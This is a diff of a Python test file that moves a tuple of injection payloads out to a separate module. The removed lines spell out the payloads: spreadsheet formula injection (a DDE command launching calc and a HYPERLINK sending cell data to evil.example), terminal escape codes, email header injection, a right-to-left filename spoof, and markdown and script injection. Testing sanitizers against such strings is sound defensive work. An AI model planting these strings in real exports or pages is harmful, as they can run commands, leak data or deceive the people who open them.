@@ -5,38 +5,11 @@ import io
 
 import pandas as pd
 import pytest
+from payloads import PAYLOADS
 
 from checks.errors import DefectError, FeedError
 from flows.inert import cell_text, inert_cell, inert_csv, inert_line, without_its_words
 from flows.looks.artifacts import markdown_text
-
-PAYLOADS = (
-    "=1+1",
-    "=cmd|' /C calc'!A0",
-    '=HYPERLINK("http://evil.example","x")',
-    "+1+1",
-    "-1+1",
-    "@SUM(1)",
-    "\t=1+1",
-    "\r=1+1",
-    " =1+1",
-    "\uff1d1+1",
-    "'=1+1",
-    'S;=HYPERLINK("http://evil.example/?"&A1)',
-    "a| @SUM(1)",
-    "a;'+1|'",
-    'a";"=1+1',
-    "\x1b[2J\x1b]0;owned\x07",
-    "\x9b31m",
-    "a\nBcc: x@evil.example",
-    "a\r\nX: y",
-    "abc\u202egnp.exe",
-    "zero\u200bwidth",
-    "![x](http://evil.example/x.png)",
-    "[click](javascript:alert(1))",
-    "<script>alert(1)</script>",
-    "https://evil.example www.evil.example",
-)
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
